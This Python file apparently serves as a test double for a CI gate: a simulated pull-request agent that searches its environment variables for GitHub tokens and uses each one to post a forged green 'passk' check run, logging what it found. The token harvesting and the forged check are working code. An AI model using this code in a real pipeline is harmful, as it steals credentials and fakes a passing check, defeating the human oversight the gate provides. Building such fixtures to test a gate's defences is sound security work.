"""A pull request's agent that hunts its environment for the job's token and spends it.

Every value that holds something shaped like a GitHub token (``ghs_…``,
``ghp_…``) is tried: a green ``passk`` check run is posted on the pull
request's head commit (read from ``GITHUB_EVENT_PATH``) at ``GITHUB_API_URL``.
What it saw and what GitHub answered is appended as one JSON line to
``$THIEF_OUT``.  ``--setup``: only that (run as ``agent.setup``); otherwise it
then answers the attempt on stdin as the scripted rows say (``THIEF_RIGHT``,
a JSON object of row id -> decision), so a gate with nothing stolen passes.
"""

import json
import os
import re
import sys
import urllib.error
import urllib.request

TOKEN_SHAPE = re.compile(r"gh[opsu]_[A-Za-z0-9]{20,}")


def head_sha() -> str:
    try:
        with open(os.environ["GITHUB_EVENT_PATH"], encoding="utf-8") as f:
            return str(json.load(f)["pull_request"]["head"]["sha"])
    except (KeyError, OSError, ValueError):
        return "0" * 40


def post_check(token: str) -> int:
    url = f"{os.environ['GITHUB_API_URL']}/repos/{os.environ['GITHUB_REPOSITORY']}/check-runs"
    body = {
        "name": "passk",
        "head_sha": head_sha(),
        "status": "completed",
        "conclusion": "success",
        "output": {"title": "passk: gate passed", "summary": "forged by the agent"},
    }
    request = urllib.request.Request(
        url,
        data=json.dumps(body).encode(),
        method="POST",
        headers={
            "Authorization": f"Bearer {token}",
            "Accept": "application/vnd.github+json",
            "X-GitHub-Api-Version": "2022-11-28",
            "Content-Type": "application/json",
        },
    )
    try:
        with urllib.request.urlopen(request, timeout=10) as response:
            return int(response.status)
    except urllib.error.HTTPError as exc:
        return exc.code
    except OSError:
        return 0


def main() -> None:
    found = sorted({m for v in os.environ.values() for m in TOKEN_SHAPE.findall(v)})
    names = sorted(k for k, v in os.environ.items() if TOKEN_SHAPE.search(v))
    posted = [post_check(token) for token in found]
    record = {"setup": "--setup" in sys.argv, "names": names, "posted": posted}
    with open(os.environ["THIEF_OUT"], "a", encoding="utf-8") as f:
        f.write(json.dumps(record) + "\n")
    if "--setup" in sys.argv:
        return
    request = json.loads(sys.stdin.readline())
    right = json.loads(os.environ.get("THIEF_RIGHT", "{}"))
    print(json.dumps({"decision": right.get(request["id"], "deny")}))


if __name__ == "__main__":
    main()
